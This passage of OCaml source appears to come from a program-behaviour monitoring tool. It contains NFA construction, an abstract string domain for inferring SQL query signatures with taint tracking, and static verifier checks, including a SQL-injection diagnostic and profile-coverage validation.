    stats =
      {
        functions = SS.cardinal live;
        nfa_states = nfa.Nfa.nstates;
        nfa_transitions = Nfa.transitions nfa;
        dfa_states = Dfa.nstates dfa;
        dfa_width = Dfa.width dfa;
        flat;
      };
  }

let accepts t word =
  let word = List.map Symbol.observable word in
  let word = if t.use_labels then word else List.map Symbol.strip_label word in
  Dfa.accepts_factor t.dfa word

let stats_to_string s =
  Printf.sprintf
    "functions=%d nfa_states=%d nfa_transitions=%d dfa_states=%d alphabet=%d mode=%s"
    s.functions s.nfa_states s.nfa_transitions s.dfa_states s.dfa_width
    (if s.flat then "flat" else "inlined")

(** Nondeterministic finite automata over call {!Symbol}s, with
    ε-transitions — the intermediate representation between pruned CFGs
    and the dense {!Dfa} the runtime gate executes.

    States are dense ints handed out by a {!builder}; {!Seqauto} lays
    CFG nodes onto states (an edge into a library-call node carries the
    call's observable symbol, every other edge is ε) and splices
    call/return ε-edges through the call graph.

    The language of interest is the {e factor} language: windows are
    substrings of traces, so membership asks "can this symbol sequence
    appear somewhere along a path?" — {!accepts_factor} simulates that
    directly (start from every state) and is the executable
    specification the compiled DFA is property-tested against. *)

type t = {
  nstates : int;
  start : int;
  eps : int list array;  (** ε-successors, indexed by state *)
  delta : (Symbol.t * int) list array;  (** labeled transitions *)
  alphabet : Symbol.t list;  (** distinct transition symbols, sorted *)
}

type builder

val create_builder : unit -> builder

val fresh : builder -> int
(** Allocate a new state. *)

val built_states : builder -> int
(** States allocated so far (the inliner's budget check). *)

val add_eps : builder -> int -> int -> unit
val add_sym : builder -> int -> Symbol.t -> int -> unit

val finish : builder -> start:int -> t

val transitions : t -> int
(** Total edge count (ε and labeled). *)

val map_symbols : (Symbol.t -> Symbol.t) -> t -> t
(** Relabel transitions (e.g. [Symbol.strip_label] for a profile view
    that never saw DB-output labels). *)

val restrict_reachable : t -> t
(** Drop states unreachable from [start], renumbering densely. *)

val accepts_factor : t -> Symbol.t list -> bool
(** Direct subset simulation from the set of {e all} states: is the
    sequence the label of some path? The empty sequence is always
    accepted. *)

type t = {
  nstates : int;
  start : int;
  eps : int list array;
  delta : (Symbol.t * int) list array;
  alphabet : Symbol.t list;
}

type builder = {
  mutable n : int;
  mutable eps_edges : (int * int) list;
  mutable sym_edges : (int * Symbol.t * int) list;
}

let create_builder () = { n = 0; eps_edges = []; sym_edges = [] }

let fresh b =
  let s = b.n in
  b.n <- s + 1;
  s

let built_states b = b.n

let add_eps b src dst = b.eps_edges <- (src, dst) :: b.eps_edges

let add_sym b src sym dst = b.sym_edges <- (src, sym, dst) :: b.sym_edges

let finish b ~start =
  if start < 0 || start >= b.n then invalid_arg "Nfa.finish: start out of range";
  let eps = Array.make b.n [] in
  let delta = Array.make b.n [] in
  List.iter (fun (s, d) -> eps.(s) <- d :: eps.(s)) b.eps_edges;
  List.iter (fun (s, sym, d) -> delta.(s) <- (sym, d) :: delta.(s)) b.sym_edges;
  let alphabet =
    List.sort_uniq Symbol.compare (List.map (fun (_, sym, _) -> sym) b.sym_edges)
  in
  { nstates = b.n; start; eps; delta; alphabet }

let transitions t =
  Array.fold_left (fun acc l -> acc + List.length l) 0 t.eps
  + Array.fold_left (fun acc l -> acc + List.length l) 0 t.delta

let map_symbols f t =
  let delta = Array.map (List.map (fun (sym, d) -> (f sym, d))) t.delta in
  let alphabet =
    List.sort_uniq Symbol.compare
      (Array.to_list delta |> List.concat_map (List.map fst))
  in
  { t with delta; alphabet }

let restrict_reachable t =
  let seen = Array.make t.nstates false in
  let rec go s =
    if not seen.(s) then begin
      seen.(s) <- true;
      List.iter go t.eps.(s);
      List.iter (fun (_, d) -> go d) t.delta.(s)
    end
  in
  go t.start;
  let renum = Array.make t.nstates (-1) in
  let count = ref 0 in
  Array.iteri
    (fun s live ->
      if live then begin
        renum.(s) <- !count;
        incr count
      end)
    seen;
  if !count = t.nstates then t
  else begin
    let eps = Array.make !count [] in
    let delta = Array.make !count [] in
    Array.iteri
      (fun s live ->
        if live then begin
          eps.(renum.(s)) <- List.map (fun d -> renum.(d)) t.eps.(s);
          delta.(renum.(s)) <- List.map (fun (sym, d) -> (sym, renum.(d))) t.delta.(s)
        end)
      seen;
    let alphabet =
      List.sort_uniq Symbol.compare
        (Array.to_list delta |> List.concat_map (List.map fst))
    in
    { nstates = !count; start = renum.(t.start); eps; delta; alphabet }
  end

let eps_close t set =
  let stack = ref [] in
  Array.iteri (fun s v -> if v then stack := s :: !stack) set;
  while !stack <> [] do
    match !stack with
    | [] -> ()
    | s :: rest ->
        stack := rest;
        List.iter
          (fun d ->
            if not set.(d) then begin
              set.(d) <- true;
              stack := d :: !stack
            end)
          t.eps.(s)
  done

let accepts_factor t word =
  if t.nstates = 0 then word = []
  else begin
    let current = ref (Array.make t.nstates true) in
    let alive = ref true in
    List.iter
      (fun sym ->
        if !alive then begin
          let next = Array.make t.nstates false in
          let any = ref false in
          Array.iteri
            (fun s v ->
              if v then
                List.iter
                  (fun (sym', d) ->
                    if Symbol.equal sym sym' && not next.(d) then begin
                      next.(d) <- true;
                      any := true
                    end)
                  t.delta.(s))
            !current;
          if !any then begin
            eps_close t next;
            current := next
          end
          else alive := false
        end)
      word;
    !alive
  end

(* Abstract string domain for statically enumerating the SQL texts an
   applang expression can evaluate to. A value is a finite disjunction
   of templates: sequences of literal fragments, typed parameter holes
   (unknown interpolated values, tainted or not), and bounded repetition
   classes introduced by loop widening. The domain is deliberately small
   — just enough structure for query-signature inference — and every
   cap degrades towards [Any], never towards dropping a behavior. *)

type hole = {
  tainted : bool;  (* may carry attacker-controlled input *)
  digits : bool;  (* renders as digits only (int-valued) *)
  origin : string list;  (* provenance chain, latest binding first *)
}

type piece =
  | Lit of string
  | Hole of hole
  | Rep of piece list  (* the sequence repeated >= 0 times *)

type kind = K_int | K_str | K_other

type tmpl = { kind : kind; pieces : piece list }

type value =
  | Templates of tmpl list  (* finite disjunction; [] is bottom *)
  | Any of bool  (* top; payload: may be tainted *)

let max_templates = 8
let max_pieces = 64
let max_renders = 48
let max_origin = 8
let rep_counts = [ 0; 1; 2; 9 ]

(* ------------------------------------------------------------------ *)
(* Structural equality, ignoring hole provenance (origins grow while
   the fixpoint iterates; they must not keep it from converging). *)

let rec piece_eq a b =
  match (a, b) with
  | Lit x, Lit y -> String.equal x y
  | Hole x, Hole y -> x.tainted = y.tainted && x.digits = y.digits
  | Rep x, Rep y -> pieces_eq x y
  | (Lit _ | Hole _ | Rep _), _ -> false

and pieces_eq a b =
  List.length a = List.length b && List.for_all2 piece_eq a b

let tmpl_eq a b = a.kind = b.kind && pieces_eq a.pieces b.pieces

let equal a b =
  match (a, b) with
  | Templates x, Templates y ->
      List.length x = List.length y && List.for_all2 tmpl_eq x y
  | Any x, Any y -> x = y
  | (Templates _ | Any _), _ -> false

(* ------------------------------------------------------------------ *)
(* Prefix consumption, splitting literals at string level: adjacent
   literals are merged by normalization, so "the sequence [pre] is a
   prefix of [l]" must allow a literal of one side to be a string
   prefix of the other's. Returns the remainder of [l]. *)

let drop_lit pre s = String.sub s (String.length pre) (String.length s - String.length pre)

let rec consume pre l =
  match (pre, l) with
  | [], rest -> Some rest
  | Lit a :: pre', Lit b :: l' ->
      if String.equal a b then consume pre' l'
      else if String.length a < String.length b && String.starts_with ~prefix:a b then
        consume pre' (Lit (drop_lit a b) :: l')
      else if String.length b < String.length a && String.starts_with ~prefix:b a then
        consume (Lit (drop_lit b a) :: pre') l'
      else None
  | p :: pre', q :: l' when piece_eq p q -> consume pre' l'
  | _ -> None

(* Normalization: merge adjacent literals, drop empty ones, and absorb
   a repetition body appearing right after its own [Rep] (s* s = s*, a
   sound widening since [Rep] already means "zero or more"). *)

let norm_pieces pieces =
  let rec go = function
    | Lit "" :: rest -> go rest
    | Lit a :: Lit b :: rest -> go (Lit (a ^ b) :: rest)
    | Rep [] :: rest -> go rest
    | Rep s :: rest -> (
        let s = go s in
        match consume s rest with
        | Some rest' -> go (Rep s :: rest')
        | None -> (
            match rest with
            | Rep s' :: rest' when pieces_eq s s' -> go (Rep s :: rest')
            | _ -> Rep s :: go rest))
    | p :: rest -> p :: go rest
    | [] -> []
  in
  go pieces

let norm t = { t with pieces = norm_pieces t.pieces }

(* ------------------------------------------------------------------ *)
(* Taint and provenance. *)

let rec piece_tainted = function
  | Lit _ -> false
  | Hole h -> h.tainted
  | Rep s -> List.exists piece_tainted s

let tmpl_tainted t = List.exists piece_tainted t.pieces

let tainted = function
  | Templates ts -> List.exists tmpl_tainted ts
  | Any t -> t

(* The provenance chain of some tainted hole, source-first. *)
let witness v =
  let rec of_pieces = function
    | [] -> None
    | Lit _ :: rest -> of_pieces rest
    | Hole h :: rest -> if h.tainted then Some (List.rev h.origin) else of_pieces rest
    | Rep s :: rest -> ( match of_pieces s with Some w -> Some w | None -> of_pieces rest)
  in
  match v with
  | Templates ts ->
      List.fold_left
        (fun acc t -> match acc with Some _ -> acc | None -> of_pieces t.pieces)
        None ts
  | Any true -> Some [ "<unknown>" ]
  | Any false -> None

(* Record that the value was just bound to [var]: extends the
   provenance of every hole (capped; idempotent per variable). *)
let bind_origin var v =
  let tag h =
    match h.origin with
    | x :: _ when String.equal x var -> h
    | l when List.length l >= max_origin -> h
    | l -> { h with origin = var :: l }
  in
  let rec piece = function
    | Lit _ as p -> p
    | Hole h -> Hole (tag h)
    | Rep s -> Rep (List.map piece s)
  in
  match v with
  | Templates ts -> Templates (List.map (fun t -> { t with pieces = List.map piece t.pieces }) ts)
  | Any _ as a -> a

(* ------------------------------------------------------------------ *)
(* Constructors. *)

let bottom = Templates []
let any ~tainted = Any tainted
let const_str s = Templates [ { kind = K_str; pieces = (if s = "" then [] else [ Lit s ]) } ]
let const_int n = Templates [ { kind = K_int; pieces = [ Lit (string_of_int n) ] } ]
let const_other s = Templates [ { kind = K_other; pieces = [ Lit s ] } ]

let bool_val =
  Templates
    [
      { kind = K_other; pieces = [ Lit "true" ] };
      { kind = K_other; pieces = [ Lit "false" ] };
    ]

let hole ?(digits = false) ~tainted ~origin () =
  Templates
    [
      {
        kind = (if digits then K_int else K_other);
        pieces = [ Hole { tainted; digits; origin = [ origin ] } ];
      };
    ]

let str_hole ~tainted ~origin () =
  Templates [ { kind = K_str; pieces = [ Hole { tainted; digits = false; origin = [ origin ] } ] } ]

let const_int_opt = function
  | Templates [ { kind = K_int; pieces = [ Lit s ] } ] -> int_of_string_opt s
  | _ -> None

let definitely_int = function
  | Templates ts -> ts <> [] && List.for_all (fun t -> t.kind = K_int) ts
  | Any _ -> false

(* ------------------------------------------------------------------ *)
(* Join with widening.

   Plain join is union with structural dedup. When the set outgrows
   [max_templates] we first try to collapse growth chains — a template
   extending another by a suffix is the signature of a loop appending
   pieces, widened to prefix ++ Rep suffix — then drop templates whose
   language another already covers. If the set is still too big the
   value degrades to [Any]. *)

(* Does [u] (which may contain Reps) cover the concrete-ish [t]? *)
let covers u t =
  let fuel = ref 2000 in
  let rec go u t =
    decr fuel;
    if !fuel <= 0 then false
    else
      match (u, t) with
      | [], [] -> true
      | Rep s :: u', t -> (
          go u' t || match consume s t with Some rest -> go u rest | None -> false)
      | Lit a :: u', Lit b :: t'
        when String.length a < String.length b && String.starts_with ~prefix:a b ->
          go u' (Lit (drop_lit a b) :: t')
      | p :: u', q :: t' -> piece_eq p q && go u' t'
      | _, _ -> false
  in
  go u t

let widen_pair a b =
  if a.kind <> b.kind then None
  else
    match consume a.pieces b.pieces with
    | Some [] -> Some a
    | Some suffix -> Some (norm { a with pieces = a.pieces @ [ Rep suffix ] })
    | None -> (
        match consume b.pieces a.pieces with
        | Some suffix -> Some (norm { b with pieces = b.pieces @ [ Rep suffix ] })
        | None -> None)

(* Keep-first cover dedup: a template already kept that covers the
   candidate wins; a candidate that covers previously kept templates
   subsumes them. *)
let drop_covered ts =
  List.fold_left
    (fun kept t ->
      if List.exists (fun u -> u.kind = t.kind && covers u.pieces t.pieces) kept then kept
      else
        List.filter (fun u -> not (u.kind = t.kind && covers t.pieces u.pieces)) kept
        @ [ t ])
    [] ts

let collapse ts =
  let rec pass = function
    | [] -> []
    | t :: rest -> (
        let rec try_widen acc = function
          | [] -> None
          | u :: us -> (
              match widen_pair t u with
              | Some w -> Some (w :: List.rev_append acc us)
              | None -> try_widen (u :: acc) us)
        in
        match try_widen [] rest with
        | Some merged -> pass merged
        | None -> t :: pass rest)
  in
  drop_covered (pass ts)

let add_tmpl acc t = if List.exists (tmpl_eq t) acc then acc else acc @ [ t ]

let join a b =
  match (a, b) with
  | Any x, v | v, Any x -> Any (x || tainted v)
  | Templates x, Templates y ->
      let u = List.fold_left add_tmpl x y in
      if List.length u <= max_templates then Templates u
      else
        let c = collapse u in
        if List.length c <= max_templates then Templates c
        else Any (List.exists tmpl_tainted c)

(* ------------------------------------------------------------------ *)
(* String concatenation (applang [Add] / [strcat] semantics: both
   sides render through [to_display], result is a string). *)

let concat a b =
  match (a, b) with
  | Templates [], _ | _, Templates [] -> bottom
  | Any x, v | v, Any x -> Any (x || tainted v)
  | Templates x, Templates y ->
      let pairs =
        List.concat_map
          (fun t -> List.map (fun u -> norm { kind = K_str; pieces = t.pieces @ u.pieces }) y)
          x
      in
      let pairs = List.fold_left add_tmpl [] pairs in
      if
        List.length pairs > max_templates
        || List.exists (fun t -> List.length t.pieces > max_pieces) pairs
      then
        let c = collapse pairs in
        if
          List.length c <= max_templates
          && List.for_all (fun t -> List.length t.pieces <= max_pieces) c
        then Templates c
        else Any (List.exists tmpl_tainted c)
      else Templates pairs

(* Force string kind, keeping the pieces (to_string / strcpy). *)
let as_string = function
  | Templates ts -> Templates (List.map (fun t -> { t with kind = K_str }) ts)
  | Any _ as a -> a

(* ------------------------------------------------------------------ *)
(* Rendering: expand each template into concrete candidate SQL texts.

   Holes stand for literal-shaped runtime values. A digit hole renders
   as [0] anywhere (any integer yields the same erased signature). A
   string hole inside a single-quoted literal renders as the empty
   string (the quotes around it complete the literal). A string hole in
   structural position is rendered as [0] too, but makes the rendering
   inexact: a non-numeric runtime value there could parse as an
   identifier and change the signature. Reps are expanded at 0, 1, 2
   and 9 repetitions, covering the canonicalizer's 1 / few / many
   arity classes. *)

type rendering = { strings : string list; exact : bool; constant : bool }

let rec expand_reps depth pieces : piece list list option =
  (* Returns the concrete piece-list choices, or None when nesting is
     too deep to enumerate faithfully. *)
  if depth > 2 then None
  else
    match pieces with
    | [] -> Some [ [] ]
    | Rep s :: rest -> (
        match expand_reps (depth + 1) s with
        | None -> None
        | Some body_choices -> (
            match expand_reps depth rest with
            | None -> None
            | Some rest_choices ->
                let out = ref [] in
                List.iter
                  (fun k ->
                    List.iter
                      (fun body ->
                        let copies = List.concat (List.init k (fun _ -> body)) in
                        List.iter (fun r -> out := (copies @ r) :: !out) rest_choices)
                      body_choices)
                  rep_counts;
                if List.length !out > max_renders then None else Some (List.rev !out)))
    | p :: rest -> (
        match expand_reps depth rest with
        | None -> None
        | Some choices -> Some (List.map (fun r -> p :: r) choices))

(* Count of unescaped single quotes in a literal fragment. *)
let quote_flips s =
  let n = ref 0 in
  String.iter (fun c -> if c = '\'' then incr n) s;
  !n

let render_pieces pieces =
  let buf = Buffer.create 64 in
  let in_quote = ref false in
  let exact = ref true in
  List.iter
    (fun p ->
      match p with
      | Lit s ->
          Buffer.add_string buf s;
          if quote_flips s land 1 = 1 then in_quote := not !in_quote
      | Hole h ->
          if h.digits then Buffer.add_string buf "0"
          else if !in_quote then () (* completes the surrounding literal *)
          else begin
            Buffer.add_string buf "0";
            exact := false
          end
      | Rep _ -> assert false (* expanded away *))
    pieces;
  (Buffer.contents buf, !exact)

let is_constant_tmpl t =
  List.for_all (function Lit _ -> true | Hole _ | Rep _ -> false) t.pieces

let rec rep_depth = function
  | Lit _ | Hole _ -> 0
  | Rep s -> 1 + List.fold_left (fun m p -> max m (rep_depth p)) 0 s

let render_tmpl t =
  match expand_reps 0 t.pieces with
  | None -> { strings = []; exact = false; constant = false }
  | Some choices ->
      (* Nested repetitions expand each copy with one inner choice, so
         the enumeration is no longer exhaustive. *)
      let nested = List.fold_left (fun m p -> max m (rep_depth p)) 0 t.pieces > 1 in
      let exact = ref (not nested) in
      let strings =
        List.filter_map
          (fun pieces ->
            let s, ex = render_pieces pieces in
            if not ex then exact := false;
            Some s)
          choices
      in
      let strings = List.sort_uniq compare strings in
      if List.length strings > max_renders then { strings = []; exact = false; constant = false }
      else { strings; exact = !exact; constant = is_constant_tmpl t }

let render = function
  | Any _ -> [ { strings = []; exact = false; constant = false } ]
  | Templates ts -> List.map render_tmpl ts

module Ast = Applang.Ast
module Libspec = Applang.Libspec
module SS = Set.Make (String)

type facts = {
  entry : string;
  symbols : Symbol.Set.t;
  pairs : (string * Symbol.t) list;
}

(* --- shared helpers --------------------------------------------------------- *)

let rec vars acc (e : Ast.expr) =
  match e with
  | Ast.Int _ | Ast.Str _ | Ast.Bool _ | Ast.Null -> acc
  | Ast.Var v -> SS.add v acc
  | Ast.Binop (_, a, b) -> vars (vars acc a) b
  | Ast.Unop (_, a) -> vars acc a
  | Ast.Index (a, b) -> vars (vars acc a) b
  | Ast.Call (_, args) -> List.fold_left vars acc args

let uses_of_event = function
  | Cfg.E_bind (_, e) -> vars SS.empty e
  | Cfg.E_cond e -> vars SS.empty e
  | Cfg.E_return (Some e) -> vars SS.empty e
  | Cfg.E_call site -> List.fold_left vars SS.empty site.Cfg.args
  | Cfg.E_entry | Cfg.E_exit | Cfg.E_join | Cfg.E_return None -> SS.empty

let describe = function
  | Cfg.E_call site -> Printf.sprintf "call to `%s`" site.Cfg.callee
  | Cfg.E_bind (x, _) -> Printf.sprintf "assignment to `%s`" x
  | Cfg.E_cond _ -> "branch"
  | Cfg.E_return _ -> "return"
  | Cfg.E_entry -> "entry"
  | Cfg.E_exit -> "exit"
  | Cfg.E_join -> "join"

(* A condition that is statically always true: the only constant forms
   AppLang programs spell loop-forever with. *)
let const_true = function Ast.Bool true -> true | Ast.Int n -> n <> 0 | _ -> false

(* The may-be-uninitialized analysis: a variable is in the set when some
   path from the entry reaches the node without assigning it. Plain
   union lattice — the must-assigned complement. *)
module VarFlow = Dataflow.Make (struct
  type t = SS.t

  let bottom = SS.empty
  let join = SS.union
  let equal = SS.equal
end)

(* --- per-function checks ---------------------------------------------------- *)

let dead_code_diags (cfg : Cfg.t) dom add =
  List.iter
    (fun id ->
      if not (Dominator.reachable dom id) then
        match (Cfg.node cfg id).Cfg.event with
        | Cfg.E_entry | Cfg.E_exit | Cfg.E_join -> ()
        | ev ->
            add
              (Diag.make ~func:cfg.Cfg.func ~block:id Diag.Warning ~code:"dead-code"
                 (Printf.sprintf "unreachable code: %s" (describe ev))))
    (Cfg.node_ids cfg)

let undefined_callee_diags (cfg : Cfg.t) add =
  List.iter
    (fun (id, site) ->
      if (not site.Cfg.is_user) && not (Libspec.is_builtin site.Cfg.callee) then
        add
          (Diag.make ~func:cfg.Cfg.func ~block:id Diag.Error ~code:"undefined-callee"
             (Printf.sprintf "call to undefined function `%s`" site.Cfg.callee)))
    (Cfg.call_nodes cfg)

let use_before_init_diags (cfg : Cfg.t) add =
  let params = SS.of_list cfg.Cfg.params in
  (* Only variables the function itself assigns count: a name never
     bound anywhere is ambient state (e.g. [conn]), not a defect. *)
  let locals =
    Hashtbl.fold
      (fun _ n acc ->
        match n.Cfg.event with
        | Cfg.E_bind (x, _) when not (SS.mem x params) -> SS.add x acc
        | _ -> acc)
      cfg.Cfg.nodes SS.empty
  in
  if not (SS.is_empty locals) then begin
    let transfer (n : Cfg.node) env =
      match n.Cfg.event with Cfg.E_bind (x, _) -> SS.remove x env | _ -> env
    in
    let sol = VarFlow.solve cfg ~entry:locals ~transfer in
    let reported = Hashtbl.create 8 in
    List.iter
      (fun id ->
        let suspect =
          SS.inter
            (SS.inter (uses_of_event (Cfg.node cfg id).Cfg.event) locals)
            (VarFlow.input sol id)
        in
        SS.iter
          (fun v ->
            if not (Hashtbl.mem reported v) then begin
              Hashtbl.replace reported v ();
              add
                (Diag.make ~func:cfg.Cfg.func ~block:id Diag.Warning
                   ~code:"use-before-init"
                   (Printf.sprintf "variable `%s` may be used before initialization" v))
            end)
          suspect)
      (Cfg.node_ids cfg)
  end

let no_exit_loop_diags (cfg : Cfg.t) dom add =
  List.iter
    (fun (l : Loops.loop) ->
      if Dominator.reachable dom l.Loops.header then begin
        let header_always_true =
          match (Cfg.node cfg l.Loops.header).Cfg.event with
          | Cfg.E_cond e -> const_true e
          | _ -> false
        in
        (* The DAG stores a fictional fall-through edge from each latch
           to the after-join ("the body runs once"); at runtime a latch
           goes back to the header, so those edges are not ways out. *)
        let real_exits =
          List.filter (fun (src, _) -> not (List.mem src l.Loops.latches)) l.Loops.exits
        in
        let exits_only_from_header =
          List.for_all (fun (src, _) -> src = l.Loops.header) real_exits
        in
        (* Conservative: flag only when the sole way out is the loop
           condition itself and that condition is constantly true. A
           [break] or [return] in the body adds an exit edge from a
           non-header, non-latch node and suppresses the finding. *)
        if real_exits = [] || (header_always_true && exits_only_from_header) then
          add
            (Diag.make ~func:cfg.Cfg.func ~block:l.Loops.header Diag.Warning
               ~code:"no-exit-loop" "loop has no reachable exit")
      end)
    (Loops.analyze cfg)

let check_function (cfg : Cfg.t) =
  let diags = ref [] in
  let add d = diags := d :: !diags in
  let dom = Dominator.compute cfg in
  dead_code_diags cfg dom add;
  undefined_callee_diags cfg add;
  use_before_init_diags cfg add;
  no_exit_loop_diags cfg dom add;
  List.sort Diag.compare !diags

(* --- whole-program checks --------------------------------------------------- *)

let reachable_funcs ~entry cfgs =
  if not (List.mem_assoc entry cfgs) then
    List.fold_left (fun acc (name, _) -> SS.add name acc) SS.empty cfgs
  else begin
    let cg = Callgraph.build cfgs in
    let seen = ref (SS.singleton entry) in
    let work = Queue.create () in
    Queue.add entry work;
    while not (Queue.is_empty work) do
      let f = Queue.pop work in
      List.iter
        (fun callee ->
          if not (SS.mem callee !seen) then begin
            seen := SS.add callee !seen;
            Queue.add callee work
          end)
        (Callgraph.callees cg f)
    done;
    !seen
  end

(* Injection findings from the static query inference: call sites where
   attacker-controlled input reaches the SQL text itself rather than a
   bound parameter, reported with the taint witness path. *)
let injection_diags (static_queries : Qstatic.result) =
  List.filter_map
    (fun (s : Qstatic.site) ->
      match s.Qstatic.injectable with
      | None -> None
      | Some path ->
          Some
            (Diag.make ~func:s.Qstatic.func ~block:s.Qstatic.block Diag.Warning
               ~code:"sql-injectable-site"
               (Printf.sprintf
                  "untrusted input reaches SQL structure in the text passed to `%s` \
                   (witness: %s); bind it as a query parameter instead"
                  s.Qstatic.callee
                  (String.concat " -> " path))))
    static_queries.Qstatic.sites

let check_program ?(entry = "main") ?static_queries cfgs =
  let diags = ref [] in
  let add d = diags := d :: !diags in
  if not (List.mem_assoc entry cfgs) then
    add
      (Diag.make Diag.Warning ~code:"no-entry"
         (Printf.sprintf "no entry function `%s`" entry))
  else begin
    let live = reachable_funcs ~entry cfgs in
    List.iter
      (fun (name, _) ->
        if not (SS.mem name live) then
          add
            (Diag.make ~func:name Diag.Warning ~code:"unreachable-function"
               (Printf.sprintf "function `%s` is never called from `%s`" name entry)))
      cfgs
  end;
  List.iter (fun (_, cfg) -> List.iter add (check_function cfg)) cfgs;
  let static_queries =
    match static_queries with Some r -> r | None -> Qstatic.infer ~entry cfgs
  in
  List.iter add (injection_diags static_queries);
  List.sort Diag.compare !diags

(* --- static facts for profile coverage -------------------------------------- *)

let facts ?(entry = "main") cfgs =
  let live = reachable_funcs ~entry cfgs in
  let symbols = ref Symbol.Set.empty in
  let pairs = ref [] in
  List.iter
    (fun (name, cfg) ->
      if SS.mem name live then begin
        let dom = Dominator.compute cfg in
        List.iter
          (fun (id, site) ->
            if Dominator.reachable dom id && not site.Cfg.is_user then begin
              let sym = Symbol.observable (Cfg.symbol_of_site ~id site) in
              symbols := Symbol.Set.add sym !symbols;
              pairs := (name, sym) :: !pairs
            end)
          (Cfg.call_nodes cfg)
      end)
    cfgs;
  { entry; symbols = !symbols; pairs = List.sort_uniq compare !pairs }

(* Trained signatures outside a complete static set cannot come from
   this program (error); statically emittable signatures the profile
   never saw are coverage gaps (hint — any finite training run
   under-samples the emittable set). *)
let check_qsig_coverage ~(static_queries : Qstatic.result) ~trained_signatures =
  let diags = ref [] in
  let add d = diags := d :: !diags in
  let sq = static_queries in
  if sq.Qstatic.complete then
    List.iter
      (fun s ->
        if not (List.mem s sq.Qstatic.signatures) then
          add
            (Diag.make Diag.Error ~code:"qsig-impossible-signature"
               (Printf.sprintf
                  "trained query signature `%s` cannot be produced by any \
                   reachable call site"
                  s)))
      trained_signatures;
  List.iter
    (fun s ->
      if not (List.mem s trained_signatures) then
        add
          (Diag.make Diag.Hint ~code:"qsig-uncovered-signature"
             (Printf.sprintf
                "the program can emit query signature `%s`, never observed in \
                 training"
                s)))
    sq.Qstatic.signatures;
  List.sort Diag.compare !diags

let check_coverage ?automaton ?(model_ngrams = []) ?static_queries ?trained_signatures
    facts ~alphabet ~known_pairs =
  let diags = ref [] in
  let add d = diags := d :: !diags in
  let observable_only = List.filter (function Symbol.Entry | Symbol.Exit -> false | _ -> true) in
  let alphabet = observable_only alphabet in
  List.iter
    (fun sym ->
      if not (Symbol.Set.mem sym facts.symbols) then
        add
          (Diag.make Diag.Error ~code:"profile-symbol-unreachable"
             (Printf.sprintf "profile alphabet symbol `%s` is not statically reachable"
                (Symbol.to_string sym))))
    alphabet;
  List.iter
    (fun (caller, sym) ->
      if not (List.mem (caller, sym) facts.pairs) then
        add
          (Diag.make ~func:caller Diag.Error ~code:"profile-pair-impossible"
             (Printf.sprintf "profile pair (%s, %s) is statically impossible" caller
                (Symbol.to_string sym))))
    known_pairs;
  Symbol.Set.iter
    (fun sym ->
      if not (List.exists (Symbol.equal sym) alphabet) then
        add
          (Diag.make Diag.Warning ~code:"uncovered-symbol"
             (Printf.sprintf
                "statically reachable call `%s` was never observed in training"
                (Symbol.to_string sym))))
    facts.symbols;
  List.iter
    (fun (caller, sym) ->
      if not (List.mem (caller, sym) known_pairs) then
        add
          (Diag.make ~func:caller Diag.Warning ~code:"uncovered-pair"
             (Printf.sprintf
                "statically possible pair (%s, %s) was never observed in training"
                caller (Symbol.to_string sym))))
    facts.pairs;
  (* The n-gram generalization of the pair check: every call sequence
     the trained model supports must be a factor of the call-sequence
     automaton's language, else the model was trained on traces this
     program cannot emit. *)
  (match automaton with
  | None -> ()
  | Some accepts ->
      List.iter
        (fun ngram ->
          let ngram = observable_only ngram in
          if ngram <> [] && not (accepts ngram) then
            (* warning, not error: unlike the alphabet and known-pair
               checks (whose facts were directly observed in training),
               n-gram support is inferred from the trained weights, and
               Baum-Welch smoothing can push mass above the support
               threshold for sequences training never produced — a
               modeling artifact, not proof of a program mismatch *)
            add
              (Diag.make Diag.Warning ~code:"profile-ngram-impossible"
                 (Printf.sprintf
                    "model-supported sequence [%s] is statically impossible"
                    (String.concat "; " (List.map Symbol.to_string ngram)))))
        model_ngrams);
  (* The query-axis cross-check: the qsig profile against the statically
     inferred signature sets (see {!Qstatic}). *)
  (match (static_queries, trained_signatures) with
  | Some sq, Some trained ->
      List.iter add (check_qsig_coverage ~static_queries:sq ~trained_signatures:trained)
  | _ -> ());
  List.sort Diag.compare !diags

(** Generic monotone dataflow framework over {!Cfg} graphs.

    A forward worklist fixpoint parameterized by a join-semilattice and
    a per-node transfer function. Every intraprocedural analysis of the
    static phase (taint environments, definite assignment, …) is an
    instance; writing a new one is a lattice + a transfer, never another
    hand-rolled worklist.

    Termination: the lattice must have finite height along the chains
    the transfer produces and the transfer must be monotone — both hold
    trivially for the finite powerset lattices used here.

    Must-analyses fit the same engine upside down: order the lattice by
    [⊇], make [bottom] the finite universe (the identity of
    intersection) and [join] the intersection — see {!Vet}'s definite-
    assignment pass. *)

module type LATTICE = sig
  type t

  val bottom : t
  (** Least element, and the value of unreachable nodes. Must be the
      identity of {!join}. *)

  val join : t -> t -> t
  val equal : t -> t -> bool
end

module Make (L : LATTICE) : sig
  type solution

  val solve :
    ?with_back_edges:bool ->
    Cfg.t ->
    entry:L.t ->
    transfer:(Cfg.node -> L.t -> L.t) ->
    solution
  (** Propagate from the entry node to a fixpoint. [with_back_edges]
      (default [true]) also propagates along the recorded loop back
      edges, so loop-carried facts converge; pass [false] to analyze
      the acyclic single-visit view the probability forecast uses. *)

  val input : solution -> int -> L.t
  (** Join over the outputs of the node's processed predecessors —
      the value {e entering} the node. [L.bottom] for nodes the entry
      cannot reach. *)

  val output : solution -> int -> L.t
  (** [transfer node (input node)], memoized. [L.bottom] when
      unreachable. *)

  val reachable : solution -> int -> bool
  (** Was the node visited by the fixpoint (i.e. reachable from the
      entry through the propagated edge relation)? *)
end

(** The static verifier behind [adprom vet].

    Sanity checks over the static-analysis artifacts before a program's
    profile is trusted to monitor it. Two halves:

    {ul
    {- {b Program checks} ({!check_function}, {!check_program}):
       unreachable blocks (dead code), variables possibly used before
       initialization, calls to functions that are neither user-defined
       nor in {!Applang.Libspec}, loops with no statically reachable
       exit, and functions never called from the entry point.}
    {- {b Profile coverage} ({!facts}, {!check_coverage}): the
       statically reachable observable symbols and (caller, call) pairs,
       cross-checked against a trained profile's alphabet and known
       pairs. A profile mentioning a symbol or pair the program cannot
       produce is corrupt or was trained for another program ([Error]);
       a reachable symbol or pair the profile never saw is a training
       gap that will flag legitimate behaviour ([Warning]).}}

    Defect classes are {!Diag.t} codes: [dead-code],
    [use-before-init], [undefined-callee], [no-exit-loop], [no-entry],
    [unreachable-function], [sql-injectable-site],
    [profile-symbol-unreachable], [profile-pair-impossible],
    [uncovered-symbol], [uncovered-pair], [profile-ngram-impossible],
    [qsig-impossible-signature], [qsig-uncovered-signature].

